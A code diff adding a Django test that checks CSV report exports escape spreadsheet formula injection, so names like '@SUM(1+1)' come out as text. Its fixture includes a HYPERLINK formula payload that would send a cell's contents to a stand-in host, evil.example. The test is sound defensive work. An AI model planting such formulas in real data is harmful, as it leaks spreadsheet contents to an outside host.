@@ -184,3 +184,26 @@ def test_report_matches_figures_computed_from_the_rows():
         client.get("/console/reports/", {"from": "2026-02-01", "to": "2026-01-01"}).status_code
         == 400
     )
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
+    agent = make_agent("mallory")
+    agent.first_name = '=HYPERLINK("http://evil.example/?x="&B2,"mallory")'
+    agent.save()
+    team = Team.objects.create(name="@SUM(1+1)")
+    now = timezone.now()
+    c = Conversation.objects.create(locale="en")
+    Conversation.objects.filter(pk=c.pk).update(
+        status="closed", assigned_to=agent, team=team, queued_at=now, claimed_at=now, closed_at=now
+    )
+    client = Client()
+    client.force_login(agent)
+    names = {}
+    for by in ("agent", "team"):
+        response = client.get("/console/reports.csv", {"by": by})
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        names[by] = rows[1][0]
+    assert names == {
+        "agent": '\'=HYPERLINK("http://evil.example/?x="&B2,"mallory")',
+        "team": "'@SUM(1+1)",
+    }
